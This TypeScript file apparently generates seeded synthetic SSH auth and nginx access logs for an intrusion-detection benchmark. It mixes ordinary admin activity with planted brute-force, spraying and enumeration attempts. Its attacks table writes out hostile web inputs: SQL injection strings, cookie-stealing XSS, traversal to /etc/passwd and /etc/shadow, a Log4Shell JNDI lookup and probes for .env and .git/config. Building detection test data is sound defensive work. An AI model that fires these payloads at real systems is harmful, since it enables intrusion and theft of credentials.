/*
 * Writes a realistic auth.log and nginx access log for the detection benchmark and the
 * "found without alerting on ordinary admin activity" test: mostly ordinary traffic
 * (cron, key logins, sudo by admins, PAM sessions, browsers, bots, favicon 404s) with
 * known attacks mixed in. Seeded, so every run writes the same bytes.
 */
import { createWriteStream } from 'node:fs';

const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** mulberry32: small, fast and good enough to make varied logs. */
function seeded(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pad = (n: number) => String(n).padStart(2, '0');
function syslogTime(ms: number): string {
  const d = new Date(ms);
  return `${months[d.getUTCMonth()] ?? 'Jan'} ${String(d.getUTCDate()).padStart(2, ' ')} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
}
function clfTime(ms: number): string {
  const d = new Date(ms);
  return `${pad(d.getUTCDate())}/${months[d.getUTCMonth()] ?? 'Jan'}/${d.getUTCFullYear()}:${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} +0000`;
}

/** The attacks written into the logs: what a good detector must report. */
export interface PlantedAttacks {
  bruteForceSources: string[];
  enumerationSources: string[];
  sprayingSources: string[];
  distributedTarget: string;
  slowSources: string[];
  compromisedSource: string;
  webAttackers: { source: string; kind: 'sqli' | 'xss' | 'traversal' | 'log4shell' | 'scanner' }[];
}

export const plantedAttacks: PlantedAttacks = {
  bruteForceSources: ['203.0.113.10', '203.0.113.11', '203.0.113.12'],
  enumerationSources: ['203.0.113.20'],
  sprayingSources: ['203.0.113.30'],
  distributedTarget: 'oracle',
  slowSources: ['203.0.113.40'],
  compromisedSource: '203.0.113.66',
  webAttackers: [
    { source: '198.18.0.1', kind: 'sqli' },
    { source: '198.18.0.2', kind: 'xss' },
    { source: '198.18.0.3', kind: 'traversal' },
    { source: '198.18.0.4', kind: 'log4shell' },
    { source: '198.18.0.5', kind: 'scanner' },
  ],
};

const admins = ['alice', 'bob'];
const deployUsers = ['deploy', 'backup'];
const officeIps = ['192.0.2.10', '192.0.2.11', '192.0.2.12'];
const sudoCommands = [
  '/usr/bin/apt update',
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/journalctl -u nginx',
  '/usr/bin/tail -f /var/log/syslog',
  '/usr/sbin/nft list ruleset',
];

interface Writer {
  write(line: string): void;
  close(): Promise<void>;
}

function writer(path: string): Writer {
  const stream = createWriteStream(path);
  let buffer: string[] = [];
  const flush = () => {
    if (buffer.length > 0) stream.write(buffer.join(''));
    buffer = [];
  };
  return {
    write(line) {
      buffer.push(`${line}\n`);
      if (buffer.length >= 4096) flush();
    },
    close: () =>
      new Promise((resolve, reject) => {
        flush();
        stream.end((err?: Error | null) => (err ? reject(err) : resolve()));
      }),
  };
}

/** `lines` ordinary-plus-attack auth.log lines from `start`, about one per second. */
export async function writeAuthLog(path: string, lines: number, start: number, seed = 1): Promise<void> {
  const random = seeded(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const out = writer(path);
  const host = 'web1';
  let pid = 1000;
  let time = start;
  // Attacks are scheduled by line index so they land at the same place in every run, and are
  // merged in by time so the file stays in order, as real logs are.
  const attackAt = (fraction: number) => Math.floor(lines * fraction);
  type Timed = { t: number; line: string };
  const at = (t: number, text: string): Timed => ({ t, line: `${syslogTime(t)} ${host} ${text}` });
  const planned = new Map<number, (t: number) => Timed[]>();
  plantedAttacks.bruteForceSources.forEach((ip, i) =>
    planned.set(attackAt(0.05 + i * 0.3), (t) =>
      Array.from({ length: 8 }, (_, k) =>
        at(t + k * 2000, `sshd[${9000 + k}]: Failed password for root from ${ip} port ${40000 + k} ssh2`),
      ),
    ),
  );
  const probed = [
    'admin',
    'test',
    'oracle',
    'ubuntu',
    'pi',
    'git',
    'postgres',
    'ftp',
    'guest',
    'user',
    'support',
    'mysql',
  ];
  planned.set(attackAt(0.3), (t) =>
    probed.map((user, k) =>
      at(
        t + k * 1000,
        `sshd[${9100 + k}]: Invalid user ${user} from ${plantedAttacks.enumerationSources[0] ?? ''} port ${41000 + k}`,
      ),
    ),
  );
  planned.set(attackAt(0.4), (t) =>
    Array.from({ length: 14 }, (_, k) =>
      at(
        t + k * 120_000,
        `sshd[${9200 + k}]: Failed password for ${k % 2 === 0 ? 'alice' : 'bob'}${k > 1 ? k : ''} from ${plantedAttacks.sprayingSources[0] ?? ''} port ${42000 + k} ssh2`,
      ),
    ),
  );
  planned.set(attackAt(0.5), (t) =>
    Array.from({ length: 12 }, (_, k) =>
      at(
        t + k * 60_000,
        `sshd[${9300 + k}]: Failed password for invalid user ${plantedAttacks.distributedTarget} from 100.64.${k}.${7 + k} port ${43000 + k} ssh2`,
      ),
    ),
  );
  planned.set(attackAt(0.6), (t) => [
    ...Array.from({ length: 6 }, (_, k) =>
      at(
        t + k * 3000,
        `sshd[9400]: Failed password for deploy from ${plantedAttacks.compromisedSource} port 44000 ssh2`,
      ),
    ),
    at(
      t + 30_000,
      `sshd[9401]: Accepted password for deploy from ${plantedAttacks.compromisedSource} port 44001 ssh2`,
    ),
  ]);
  let pending: Timed[] = [];
  const slowEvery = Math.max(1, Math.floor(lines / 30));

  const ordinary = (t: number): string => {
    pid += 1;
    const roll = random();
    if (roll < 0.25)
      return `${syslogTime(t)} ${host} CRON[${pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)`;
    if (roll < 0.45)
      return `${syslogTime(t)} ${host} CRON[${pid}]: pam_unix(cron:session): session closed for user root`;
    if (roll < 0.55)
      return `${syslogTime(t)} ${host} sshd[${pid}]: Accepted publickey for ${pick(deployUsers)} from ${pick(officeIps)} port ${50000 + (pid % 10000)} ssh2: ED25519 SHA256:q2mVbBpN7${pid % 97}`;
    if (roll < 0.62)
      return `${syslogTime(t)} ${host} sshd[${pid}]: pam_unix(sshd:session): session opened for user ${pick(deployUsers)}(uid=1001) by (uid=0)`;
    if (roll < 0.69)
      return `${syslogTime(t)} ${host} sshd[${pid}]: pam_unix(sshd:session): session closed for user ${pick(deployUsers)}`;
    if (roll < 0.74)
      return `${syslogTime(t)} ${host} sshd[${pid}]: Received disconnect from ${pick(officeIps)} port ${50000 + (pid % 10000)}:11: disconnected by user`;
    if (roll < 0.84) {
      const admin = pick(admins);
      return `${syslogTime(t)} ${host} sudo:    ${admin} : TTY=pts/${pid % 4} ; PWD=/home/${admin} ; USER=root ; COMMAND=${pick(sudoCommands)}`;
    }
    if (roll < 0.9)
      return `${syslogTime(t)} ${host} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by ${pick(admins)}(uid=1000)`;
    if (roll < 0.95)
      return `${syslogTime(t)} ${host} systemd-logind[412]: New session ${pid} of user ${pick(deployUsers)}.`;
    if (roll < 0.985)
      return `${syslogTime(t)} ${host} systemd-logind[412]: Session ${pid - 3} logged out. Waiting for processes to exit.`;
    if (roll < 0.9998)
      return `${syslogTime(t)} ${host} sshd[${pid}]: Disconnected from user ${pick(deployUsers)} ${pick(officeIps)} port ${50000 + (pid % 10000)}`;
    // An admin mistyping a password once: ordinary, must not alert.
    return `${syslogTime(t)} ${host} sshd[${pid}]: Failed password for ${pick(admins)} from ${pick(officeIps)} port ${50000 + (pid % 10000)} ssh2`;
  };

  for (let i = 0; i < lines; i += 1) {
    time += Math.floor(random() * 2000);
    const attack = planned.get(i);
    if (attack) pending = [...pending, ...attack(time)].sort((a, b) => a.t - b.t);
    while (pending[0] && pending[0].t <= time) out.write(pending.shift()?.line ?? '');
    if (i % slowEvery === 0 && i > 0) {
      out.write(
        `${syslogTime(time)} ${host} sshd[${pid}]: Failed password for root from ${plantedAttacks.slowSources[0] ?? ''} port 45000 ssh2`,
      );
      continue;
    }
    out.write(ordinary(time));
  }
  for (const { line } of pending) out.write(line);
  await out.close();
}

const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
];
const pages = [
  '/',
  '/index.html',
  '/products',
  '/products?category=tables&sort=price',
  '/search?q=oak+table',
  '/cart',
  '/static/app.js',
  '/static/style.css',
  '/api/v1/items?page=2',
  '/blog/2026/11/choosing-a-desk',
];
const attacks: Record<PlantedAttacks['webAttackers'][number]['kind'], string[]> = {
  sqli: [
    '/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--',
    '/login?user=admin%27%20or%20%271%27%3D%271',
    '/search?q=1%27%20AND%20SLEEP(5)--',
  ],
  xss: [
    '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
    '/comment?body=%3Cimg%20src=x%20onerror=alert(1)%3E',
  ],
  traversal: ['/download?file=../../../../etc/passwd', '/static/%2e%2e/%2e%2e/etc/shadow'],
  log4shell: ['/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.18.0.4%3A1389%2Fa%7D'],
  scanner: ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/'],
};

/** `lines` ordinary-plus-attack combined-format access log lines from `start`. */
export async function writeAccessLog(path: string, lines: number, start: number, seed = 2): Promise<void> {
  const random = seeded(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const out = writer(path);
  let time = start;
  const attackEvery = Math.max(1, Math.floor(lines / 200));
  for (let i = 0; i < lines; i += 1) {
    time += Math.floor(random() * 400);
    if (i % attackEvery === 0 && i > 0) {
      const attacker = pick(plantedAttacks.webAttackers);
      const agent =
        attacker.kind === 'scanner'
          ? 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)'
          : 'curl/8.5.0';
      out.write(
        `${attacker.source} - - [${clfTime(time)}] "GET ${pick(attacks[attacker.kind])} HTTP/1.1" 404 162 "-" "${agent}"`,
      );
      continue;
    }
    const client = `192.0.2.${20 + Math.floor(random() * 200)}`;
    const favicon = random() < 0.05;
    const path = favicon ? '/favicon.ico' : pick(pages);
    const status = favicon ? 404 : random() < 0.03 ? 304 : 200;
    out.write(
      `${client} - - [${clfTime(time)}] "GET ${path} HTTP/2.0" ${status} ${200 + Math.floor(random() * 50_000)} "https://shop.example/" "${pick(browsers)}"`,
    );
  }
  await out.close();
}
